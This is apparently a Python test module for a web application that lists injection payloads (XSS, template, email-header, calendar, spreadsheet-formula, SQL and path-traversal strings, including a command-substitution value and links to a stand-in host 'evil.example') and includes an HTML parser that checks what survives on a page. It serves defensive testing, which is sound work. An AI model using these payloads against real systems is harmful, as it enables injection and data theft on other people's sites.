"""What people type to break things: payloads of our own, and what is left of each on a page."""

import re
import unicodedata
from dataclasses import dataclass
from html.parser import HTMLParser

CONTROL, DIRECTION, BROKEN = "control-character", "direction-override", "malformed-json"


@dataclass(frozen=True)
class Payload:
    """A text, with the rule that refuses it in one line and in several; None where it is kept."""

    kind: str
    text: str
    in_line: str | None = None
    in_block: str | None = None


def kinds(kind, *texts):
    return [Payload(kind, text) for text in texts]


PAYLOADS = [
    *kinds(
        "scripts",
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/2.js></sCrIpT>",
        "</title></textarea></style><script>alert(3)</script>",
        '<iframe srcdoc="<script>alert(4)</script>"></iframe>',
    ),
    *kinds(
        "event handlers",
        "<img src=x onerror=alert(5)>",
        "<img/src/onerror=alert(6)>",
        "<details open ontoggle=alert(7)>",
        "<input autofocus onfocus=alert(8)>",
        "<template><slot onslotchange=alert(9)></template>",
    ),
    *kinds(
        "SVG and MathML",
        "<svg onload=alert(10)>",
        '<svg><a xlink:href="javascript:alert(11)"><text y=9>Klick',
        "<svg><style><img src=x onerror=alert(12)></style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>",
    ),
    *kinds(
        "elements that lead astray",
        "<form action=//evil.example/14><button>Weiter",
        "<base href=//evil.example/15/>",
        '<meta http-equiv=refresh content="0;url=//evil.example/16">',
        "<link rel=stylesheet href=//evil.example/17.css>",
        "<style>*{display:none}/*18*/</style>",
    ),
    *kinds(
        "ways out of an attribute",
        '" onmouseover="alert(19)',
        "' onfocus='alert(20)' autofocus='",
        '"><b data-hostile=21>fett</b>',
        "` onerror=alert(22) `",
        # With a mark above it, a quotation mark is another character, and ends an attribute all the same.
        '"\u0301 autofocus onfocus=alert(23) x="\u0301',
    ),
    *kinds(
        "addresses",
        "javascript:alert(24)",
        "JaVaScRiPt&colon;alert(25)//http://gut.example",
        "data:text/html,<script>alert(26)</script>",
        'https://gut.example@evil.example/27" onclick="alert(27)',
        "mailto:a@example.org?bcc=opfer@evil.example&body=%0d%0aBcc:28",
    ),
    *kinds(
        "templates",
        "{{title}} {{{title}}} {{&title}} 29",
        "{{#frame}}{{hub}}{{/frame}}{{^x}}leer{{/x}} 30",
        "{{>layout}} {{<layout}}{{$content}}31{{/content}}{{/layout}}",
        "{{=<% %>=}} <%title%> {{! weg 32 }}",
        "{name} {title} {count} {hub} {when} 33",
        "${7*7} #{7*7} <%= 7*7 %> {% raw %} 34",
    ),
    *kinds(
        "comments and references",
        "<!-- <b>35 --> <![CDATA[ ]]> <?php echo 35 ?>",
        "--!> <!--><img src=x onerror=alert(36)>",
        "&lt;b&gt;37&lt;/b&gt; &amp;amp; &#60;i&#62; &copy &unbekannt;",
    ),
    *kinds(
        "other ways to write",
        "+ADw-script+AD4-alert(38)+ADw-/script+AD4-",
        "%c0%bcscript%c0%be %3Cscript%3E39 \uff1cscript\uff1e",
        "Null\u200bBreite\u2060 im\ufeff Wort\u00ad 40",
        "Z\u0351\u0343\u035ealgo\u0315\u031b\u0360 👩‍👩‍👧‍👦 🇩🇪 41",
    ),
    Payload("direction", "Hafen \u202ekcirt\u202c 42", DIRECTION, DIRECTION),
    Payload("direction", "\u2066Nord\u2069 43", DIRECTION, DIRECTION),
    Payload("nothing", "Null\x00<b>44", CONTROL, CONTROL),
    Payload("terminals", "Esc \x1b[31mrot\x1b[0m \x07 45", CONTROL, CONTROL),
    Payload("nothing", "Eine \ud83d Hälfte 46", BROKEN, BROKEN),
    Payload("headers", "a\r\nBcc: opfer@example.org\r\n\r\n47", CONTROL),
    Payload("headers", "a\nX-Hostile: 48", CONTROL),
    Payload("headers", "a\u2028Bcc: opfer@example.org\u202949", CONTROL, CONTROL),
    Payload("headers", "a\x85Bcc: opfer@example.org 50", CONTROL, CONTROL),
    *kinds(
        "headers",
        "a%0d%0aBcc:%20opfer@example.org 51",
        "=?utf-8?q?Bcc=3A?= =?utf-8?b?QmNjOiB4QGV4YW1wbGUub3Jn?= 52",
        'Hafen" <opfer@example.org>, "Zweiter 53',
    ),
    *kinds(
        "calendars",
        r"Treffen\nATTENDEE:mailto:opfer@example.org 54",
        r'Treffen;X-HOSTILE=1:x,VALUE="y";LANGUAGE=de\;^n^' + "'55",
        # The same once more: marks above a comma, a semicolon and a stroke.
        "Ende;\u0301 Komma,\u0301 Strich\\\u0301n END:VEVENT 56",
    ),
    *kinds(
        "formulas",
        '=HYPERLINK("http://evil.example/57","57")',
        "+58 cmd|' /C calc'!A0",
        "-2+3+59",
        "@SUM(1+60)",
        "\uff1d1+61",
        "=\u03011+62,\u0301\"\u0301",
    ),
    *kinds(
        "print",
        "<span size='90000' foreground='#fff'>63</span>",
        ") Tj ET Q >> endobj 64 0 obj << /JavaScript (x)",
        r"\050\051 <48656c6c6f> [65] /Name",
    ),
    *kinds("databases and shells", "'; DROP TABLE booking; -- 66", "../../../../etc/passwd%00 $(touch 67) | ; -f --"),
]

KEPT = [each for each in PAYLOADS if each.in_line is None]
REFUSED = [each for each in PAYLOADS if each.in_line]


def folded(text):
    """A text as pages may show it: any white space is one blank, and none is at the ends."""
    return " ".join(unicodedata.normalize("NFC", text).split())


def topic(text):
    """A text as a keyword: short, in one of the pieces that commas and semicolons make."""
    return folded(re.split("[,;]", text)[0].lstrip("#"))[:40].strip() or "leer"


def texts_of_requests(document):
    """Every member of every request that is a text of no stated form, as `Schema.member`."""
    schemas = document["components"]["schemas"]

    def members(schema, path):
        if "$ref" in schema:
            return members(schemas[schema["$ref"].rsplit("/", 1)[1]], path)
        found = set()
        for each in schema.get("anyOf", []) + schema.get("allOf", []):
            found |= members(each, path)
        if schema.get("type") == "array":
            found |= members(schema["items"], path)
        if schema.get("type") == "object":
            for name, each in schema.get("properties", {}).items():
                found |= members(each, f"{path}.{name}")
            if isinstance(schema.get("additionalProperties"), dict):
                found |= members(schema["additionalProperties"], path)
        if schema.get("type") == "string" and not {"format", "enum", "const"} & set(schema):
            found.add(path)
        return found

    found = set()
    for operations in document["paths"].values():
        for operation in operations.values():
            for content in operation.get("requestBody", {}).get("content", {}).values():
                schema = content["schema"]
                assert "$ref" in schema, f"{operation.get('operationId')}: a body without a name"
                found |= members(schema, schema["$ref"].rsplit("/", 1)[1])
    return found


# Where a page may send a browser: on this site, or where somebody wrote an address of the web or of mail.
ADDRESS = re.compile(r"(?:[/#?]|https?://|mailto:|cid:|data:image/)")


class Read(HTMLParser):
    """A page as a browser takes it apart: its text, the values in it, and of which elements and attributes it is made."""

    def __init__(self, markup):
        super().__init__()
        self.made_of, self.addresses = set(), []
        self._text, self._values = [], []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.made_of.add((tag, ""))
        for name, value in attributes:
            self.made_of.add((tag, name))
            self._values.append(value or "")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"):
                self.addresses.append(value or "")
        # Words of two elements are two words, but for a link within a text.
        if tag != "a":
            self._text.append(" ")

    def handle_data(self, data):
        self._text.append(data)

    @property
    def text(self):
        return folded("".join(self._text))

    @property
    def values(self):
        return [folded(each) for each in self._values]

    def shows(self, text):
        return text in self.text or text in self.values

    def astray(self):
        return [each for each in self.addresses if each and not ADDRESS.match(each)]
